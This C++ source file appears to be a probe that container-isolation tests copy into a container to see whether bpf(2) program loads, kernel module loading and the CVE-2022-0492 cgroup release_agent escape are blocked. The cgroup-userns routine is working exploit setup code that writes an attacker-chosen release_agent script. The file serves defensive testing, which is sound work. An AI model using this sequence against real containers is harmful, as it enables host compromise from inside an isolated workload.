// A static probe the escape tests copy into a container, for the kernel
// calls busybox has no applet for. Each subcommand prints one line per
// attempt, "<what>: ok" or "<what>: <strerror>", and exits 0: the tests
// judge the lines (and the host), not the exit status.
//
//   escape_probe bpf                     bpf(2): program load, map create, id walk
//   escape_probe finit-module <file>     finit_module(2) of any file
//   escape_probe cgroup-userns <script>  CVE-2022-0492: a new user, mount and
//                                        cgroup namespace, a cgroup v1 mount,
//                                        release_agent=<script>
//
// Written against the raw syscalls, as libc has no wrappers for them and
// the container image has no libc at all (the binary is linked statically).
#include <fcntl.h>
#include <linux/bpf.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <cerrno>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <string>

namespace {

void report(const std::string& what, long result) {
  const int err = errno;
  if (result >= 0) {
    std::printf("%s: ok\n", what.c_str());
  } else {
    std::printf("%s: %s\n", what.c_str(), std::strerror(err));
  }
  std::fflush(stdout);
}

long bpf_call(int cmd, bpf_attr& attr) {
  return ::syscall(SYS_bpf, cmd, &attr, sizeof attr);
}

int probe_bpf() {
  // r0 = 0; exit: the smallest program the verifier accepts.
  bpf_insn program[2]{};
  program[0].code = BPF_ALU64 | BPF_MOV | BPF_K;
  program[0].dst_reg = BPF_REG_0;
  program[1].code = BPF_JMP | BPF_EXIT;
  const char license[] = "GPL";
  bpf_attr load{};
  load.prog_type = BPF_PROG_TYPE_SOCKET_FILTER;
  load.insn_cnt = 2;
  load.insns = reinterpret_cast<std::uintptr_t>(program);
  load.license = reinterpret_cast<std::uintptr_t>(license);
  const long prog = bpf_call(BPF_PROG_LOAD, load);
  report("bpf prog load", prog);
  if (prog >= 0) ::close(static_cast<int>(prog));

  bpf_attr kprobe = load;
  kprobe.prog_type = BPF_PROG_TYPE_KPROBE;
  const long kp = bpf_call(BPF_PROG_LOAD, kprobe);
  report("bpf kprobe load", kp);
  if (kp >= 0) ::close(static_cast<int>(kp));

  bpf_attr map{};
  map.map_type = BPF_MAP_TYPE_ARRAY;
  map.key_size = 4;
  map.value_size = 4;
  map.max_entries = 1;
  const long m = bpf_call(BPF_MAP_CREATE, map);
  report("bpf map create", m);
  if (m >= 0) ::close(static_cast<int>(m));

  // What `bpftool prog show` starts with: walking the host's program ids.
  bpf_attr next{};
  next.start_id = 0;
  report("bpf prog id walk", bpf_call(BPF_PROG_GET_NEXT_ID, next));
  return 0;
}

int probe_finit_module(const char* file) {
  const int fd = ::open(file, O_RDONLY | O_CLOEXEC);
  if (fd < 0) {
    report(std::string("open ") + file, -1);
    return 0;
  }
  report("finit_module", ::syscall(SYS_finit_module, fd, "", 0));
  ::close(fd);
  report("init_module", ::syscall(SYS_init_module, nullptr, 0UL, ""));
  return 0;
}

bool write_file(const std::string& path, const std::string& text) {
  const int fd = ::open(path.c_str(), O_WRONLY | O_CLOEXEC);
  if (fd < 0) return false;
  const ssize_t n = ::write(fd, text.data(), text.size());
  const int err = errno;
  ::close(fd);
  errno = err;
  return n == static_cast<ssize_t>(text.size());
}

int probe_cgroup_userns(const char* script) {
  const uid_t uid = ::getuid();
  const gid_t gid = ::getgid();
  const long shared = ::unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP);
  report("unshare user+mount+cgroup", shared);
  if (shared < 0) return 0;
  // Map the caller to root of the new namespace, as `unshare -r` does.
  write_file("/proc/self/setgroups", "deny");
  const bool mapped = write_file("/proc/self/uid_map", "0 " + std::to_string(uid) + " 1\n") &&
                      write_file("/proc/self/gid_map", "0 " + std::to_string(gid) + " 1\n");
  report("map root", mapped ? 0 : -1);
  ::mount(nullptr, "/", nullptr, MS_REC | MS_PRIVATE, nullptr);
  const std::string dir = "/tmp/escape-cgroup";
  ::mkdir(dir.c_str(), 0700);
  // The first controller the kernel lets this namespace mount.
  std::string mounted;
  for (const char* controller : {"rdma", "memory", "pids", "cpu", "freezer", "devices", "blkio", "none,name=systemd"}) {
    if (::mount("cgroup", dir.c_str(), "cgroup", 0, controller) == 0) {
      mounted = controller;
      break;
    }
  }
  report("mount cgroup v1" + (mounted.empty() ? std::string() : " " + mounted), mounted.empty() ? -1 : 0);
  if (mounted.empty()) return 0;
  report("write release_agent", write_file(dir + "/release_agent", std::string(script) + "\n") ? 0 : -1);
  report("mkdir child cgroup", ::mkdir((dir + "/escape").c_str(), 0755));
  report("write notify_on_release", write_file(dir + "/escape/notify_on_release", "1\n") ? 0 : -1);
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  const std::string command = argc > 1 ? argv[1] : "";
  if (command == "bpf" && argc == 2) return probe_bpf();
  if (command == "finit-module" && argc == 3) return probe_finit_module(argv[2]);
  if (command == "cgroup-userns" && argc == 3) return probe_cgroup_userns(argv[2]);
  std::fprintf(stderr, "usage: escape_probe bpf | finit-module <file> | cgroup-userns <release-agent script>\n");
  return 2;
}
